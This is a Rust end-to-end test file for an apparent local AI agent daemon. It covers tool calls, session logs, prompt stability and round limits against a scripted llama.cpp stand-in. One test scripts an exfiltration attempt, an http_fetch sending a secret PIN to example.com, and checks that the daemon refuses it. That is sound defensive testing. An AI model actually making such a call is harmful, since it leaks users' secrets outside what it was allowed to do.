//! Turns through the socket against the scripted stand-in: what llama.cpp is sent, what
//! the client reads, and what lands on disk.

use super::{messages, write_session, Loopd};
use crate::support::standin::{context_full, text, text_with, tool_calls};
use serde_json::{json, Value};

#[test]
fn a_message_streams_the_answer_and_logs_user_assistant_usage() {
    let l = Loopd::start("");
    l.llama.push(text_with(
        &["Hel", "lo", " there.\n", ".dotted"],
        (0, 25, 6),
    ));
    let reply = l.client().ask("hello");
    assert_eq!(reply, ["Hello there.", ".dotted"]);

    let chat = &l.llama.wait_chats(1)[0];
    assert_eq!(chat.method, "POST");
    let body = chat.json();
    assert_eq!(body["id_slot"], 0);
    assert_eq!(body["cache_prompt"], true);
    assert_eq!(body["stream"], true);
    assert_eq!(body["chat_template_kwargs"]["enable_thinking"], true);
    let mut names: Vec<&str> = body["tools"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["function"]["name"].as_str().unwrap())
        .collect();
    names.sort_unstable();
    assert_eq!(names, ["http_fetch", "read_file", "recall", "remind"]);
    assert_eq!(
        messages(&body),
        [
            json!({"role": "system", "content": "You are a helpful assistant."}),
            json!({"role": "user", "content": "hello"}),
        ]
    );

    let recs = l.records("main");
    assert_eq!(l.kinds("main"), ["user", "assistant", "usage"]);
    assert_eq!(recs[0]["content"], "hello");
    assert_eq!(recs[0]["origin"], "owner");
    assert_eq!(recs[1]["content"], "Hello there.\n.dotted");
    assert_eq!(recs[1]["tool_calls"], json!([]));
    assert_eq!(
        (
            recs[2]["slot"].clone(),
            recs[2]["cache_n"].clone(),
            recs[2]["prompt_n"].clone(),
            recs[2]["predicted_n"].clone()
        ),
        (json!(0), json!(0), json!(25), json!(6))
    );

    // Epoch 0's head froze the system prompt and the tool schemas it was sent.
    let head: Value = serde_json::from_slice(
        &std::fs::read(l.session_dir("main").join("epoch-000000.head.json")).unwrap(),
    )
    .unwrap();
    assert_eq!(head["system"], "You are a helpful assistant.");
    assert_eq!(head["tools"], body["tools"]);
    assert_eq!(head["reason"], "start");
    assert_eq!(head["carry"], Value::Null);
}

#[test]
fn the_prompt_prefix_stays_byte_stable_across_turns_and_restarts() {
    let mut l = Loopd::start("");
    l.llama.push(text(&["first answer"]));
    l.llama
        .push(tool_calls(&[("c1", "recall", "{\"query\":\"tea\"}")]));
    l.llama.push(text(&["second answer"]));
    l.llama.push(text(&["third answer"]));
    let mut c = l.client();
    c.ask("one");
    c.ask("two");
    drop(c);
    // A changed system.md must not touch the running epoch's prefix.
    std::fs::write(l.fx.prompts.join("system.md"), "A new system prompt.").unwrap();
    l.restart();
    l.client().ask("three");
    let bodies: Vec<String> = l
        .llama
        .wait_chats(4)
        .iter()
        .map(|r| {
            let v = r.json();
            serde_json::to_string(&v["messages"]).unwrap()
        })
        .collect();
    for pair in bodies.windows(2) {
        let (a, b) = (&pair[0], &pair[1]);
        let a = a.strip_suffix(']').unwrap();
        assert!(b.starts_with(a), "not a prefix:\n{a}\n{b}");
    }
    let last: Value = l.llama.chats()[3].json();
    assert_eq!(
        last["messages"][0]["content"],
        "You are a helpful assistant."
    );
}

#[test]
fn tool_calls_run_and_their_results_go_back_to_the_model() {
    let l = Loopd::start("");
    l.llama.push(tool_calls(&[
        ("c1", "recall", "{\"query\": \"tea\"}"),
        ("c2", "read_file", "{\"path\": \"/etc/hostname\"}"),
    ]));
    l.llama.push(text(&["Done."]));
    let reply = l.client().ask("look things up");
    assert_eq!(
        reply,
        [
            "· recall {\"query\": \"tea\"}",
            "· read_file {\"path\": \"/etc/hostname\"}",
            "Done."
        ]
    );
    let chats = l.llama.wait_chats(2);
    let second = messages(&chats[1].json());
    assert_eq!(second.len(), 5, "{second:?}");
    assert_eq!(
        second[2],
        json!({"role": "assistant", "content": null, "tool_calls": [
            {"id": "c1", "type": "function", "function": {"name": "recall", "arguments": "{\"query\": \"tea\"}"}},
            {"id": "c2", "type": "function", "function": {"name": "read_file", "arguments": "{\"path\": \"/etc/hostname\"}"}}]})
    );
    assert_eq!(second[3]["role"], "tool");
    assert_eq!(second[3]["tool_call_id"], "c1");
    // memoryd is not running in this test: the tool says so and the turn goes on.
    assert!(
        second[3]["content"]
            .as_str()
            .unwrap()
            .starts_with("memory unavailable: "),
        "{}",
        second[3]
    );
    assert_eq!(second[4]["tool_call_id"], "c2");

    assert_eq!(
        l.kinds("main"),
        [
            "user",
            "assistant",
            "usage",
            "tool_result",
            "tool_result",
            "assistant",
            "usage"
        ]
    );
    let recs = l.records("main");
    assert_eq!(recs[3]["call"], 1);
    assert_eq!(recs[3]["name"], "recall");
    assert_eq!(recs[3]["class"], "public");
    assert_eq!(recs[3]["untrusted"], false);
    assert_eq!(recs[4]["call"], 2);
    assert_eq!(recs[4]["tool_call_id"], "c2");
}

#[test]
fn invalid_tool_arguments_and_unknown_tools_are_results_not_crashes() {
    let l = Loopd::start("");
    l.llama.push(tool_calls(&[
        ("c1", "recall", "{not json"),
        ("c2", "launch_rockets", "{}"),
    ]));
    l.llama.push(text(&["Sorry."]));
    let reply = l.client().ask("do it");
    assert_eq!(reply.last().unwrap(), "Sorry.");
    let recs = l.records("main");
    let results: Vec<&Value> = recs.iter().filter(|r| r["type"] == "tool_result").collect();
    assert!(
        results[0]["content"]
            .as_str()
            .unwrap()
            .starts_with("error: arguments are not valid json"),
        "{}",
        results[0]
    );
    assert_eq!(
        results[1]["content"],
        "error: unknown tool \"launch_rockets\""
    );
    // The model reads the unknown tool's error; the call whose arguments do not parse is
    // never replayed, nor its result (llama.cpp refuses a history holding it).
    let second = messages(&l.llama.wait_chats(2)[1].json());
    assert_eq!(second[3]["content"], results[1]["content"]);
    assert!(second.iter().all(|m| m["content"] != results[0]["content"]));
}

#[test]
fn call_numbers_are_unique_in_the_session_across_restarts() {
    let mut l = Loopd::start("");
    l.llama
        .push(tool_calls(&[("a", "recall", "{}"), ("b", "recall", "{}")]));
    l.llama.push(text(&["ok"]));
    l.client().ask("one");
    l.restart();
    l.llama.push(tool_calls(&[("c", "recall", "{}")]));
    l.llama.push(text(&["ok"]));
    l.client().ask("two");
    let calls: Vec<u64> = l
        .records("main")
        .iter()
        .filter(|r| r["type"] == "tool_result")
        .map(|r| r["call"].as_u64().unwrap())
        .collect();
    assert_eq!(calls, [1, 2, 3]);
}

#[test]
fn tool_results_are_capped_at_replay_not_on_disk() {
    let l = Loopd::start("[loop]\ntool_result_cap = 7\n");
    l.llama
        .push(tool_calls(&[("c1", "recall", "{\"query\":\"x\"}")]));
    l.llama.push(text(&["ok"]));
    l.client().ask("go");
    let stored = l.records("main")[3]["content"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(stored.chars().count() > 7, "{stored}");
    let sent = messages(&l.llama.wait_chats(2)[1].json())[3]["content"].clone();
    assert_eq!(sent, stored.chars().take(7).collect::<String>());
}

#[test]
fn a_turn_stops_when_max_rounds_are_spent() {
    let l = Loopd::start("[loop]\nmax_rounds = 2\n");
    l.llama.push(tool_calls(&[("c1", "recall", "{}")]));
    l.llama.push(tool_calls(&[("c2", "recall", "{}")]));
    let reply = l.client().ask("loop forever");
    assert_eq!(
        reply.last().unwrap(),
        "· stopped: loop.max_rounds (2) was spent"
    );
    assert_eq!(l.llama.chats().len(), 2);
    let recs = l.records("main");
    let last_result = recs.iter().rfind(|r| r["type"] == "tool_result").unwrap();
    assert_eq!(last_result["tool_call_id"], "c2");
    assert!(last_result["content"]
        .as_str()
        .unwrap()
        .starts_with("error: not run"));
    assert_eq!(recs.last().unwrap()["type"], "note");
}

#[test]
fn context_full_is_not_retried_and_keeps_the_message() {
    let l = Loopd::start("");
    l.llama.push(context_full());
    // The compaction that follows (tests/e2e/compact) fails here: its summary call is
    // refused, so the turn ends with the error and the message stays in the log.
    l.llama.push(crate::support::standin::Reply::Status(
        400,
        crate::support::standin::error_json("invalid_request_error", "no"),
    ));
    let reply = l.client().ask("a very long message");
    assert!(reply[0].starts_with("error: context full"), "{reply:?}");
    assert_eq!(l.kinds("main"), ["user", "note"]);
    assert_eq!(l.llama.chats().len(), 2, "context full is not retried");
}

fn head(epoch: u64, carry: Option<&str>, class: &str) -> Value {
    json!({"epoch": epoch, "started": "2026-11-30T06:00:00.000Z",
        "system": "Frozen system prompt.",
        "tools": crate::loopd::turns::offered_tools(),
        "carry": carry, "carry_label": {"class": class, "untrusted": false},
        "reason": if epoch == 0 { "start" } else { "threshold" }, "summary_source": "model"})
}

pub fn offered_tools() -> Value {
    json!([
        {"type": "function", "function": {"name": "read_file", "parameters": {}}},
        {"type": "function", "function": {"name": "http_fetch", "parameters": {}}},
        {"type": "function", "function": {"name": "recall", "parameters": {}}},
    ])
}

#[test]
fn a_carried_summary_is_one_user_message_after_the_system_message() {
    let l = Loopd::start("");
    write_session(&l.fx, "carried", &head(0, None, "public"), &[]);
    write_session(
        &l.fx,
        "carried",
        &head(1, Some("We spoke of tea."), "public"),
        &[],
    );
    l.llama.push(text(&["Tea again?"]));
    let mut c = l.client();
    assert_eq!(
        c.ask("/session carried"),
        ["session carried: epoch 1, 0 records"]
    );
    c.ask("more");
    let body = l.llama.wait_chats(1)[0].json();
    assert_eq!(
        messages(&body),
        [
            json!({"role": "system", "content": "Frozen system prompt."}),
            json!({"role": "user", "content": "Earlier turns, summarised:\n\nWe spoke of tea."}),
            json!({"role": "user", "content": "more"}),
        ]
    );
    assert_eq!(body["tools"], offered_tools());
    let log = super::records_in(&l.session_dir("carried").join("epoch-000001.jsonl"));
    assert_eq!(log[0]["content"], "more");
}

#[test]
fn http_fetch_is_refused_once_the_context_holds_secret_data() {
    let l = Loopd::start("");
    let secret = json!({"type": "tool_result", "time": "2026-11-30T06:00:00.000Z", "call": 7,
        "tool_call_id": "s1", "name": "read_file", "content": "the pin is 1234",
        "class": "secret", "untrusted": false});
    write_session(&l.fx, "vault", &head(0, None, "public"), &[secret]);
    l.llama.push(tool_calls(&[(
        "c9",
        "http_fetch",
        "{\"url\":\"http://example.com/?pin=1234\"}",
    )]));
    l.llama.push(text(&["I will not."]));
    let mut c = l.client();
    c.ask("/session vault");
    let reply = c.ask("send the pin out");
    assert!(
        reply.iter().any(|l| l
            .starts_with("· http_fetch of http://example.com/?pin=1234 refused: ")
            && l.ends_with("/allow 8")),
        "{reply:?}"
    );
    let log = super::records_in(&l.session_dir("vault").join("epoch-000000.jsonl"));
    let result = log
        .iter()
        .find(|r| r["type"] == "tool_result" && r["call"] == 8)
        .unwrap();
    assert!(result["content"]
        .as_str()
        .unwrap()
        .starts_with("error: refused: "));
    assert!(log
        .iter()
        .any(|r| r["type"] == "note" && r["text"].as_str().unwrap().contains("http_fetch")));
}
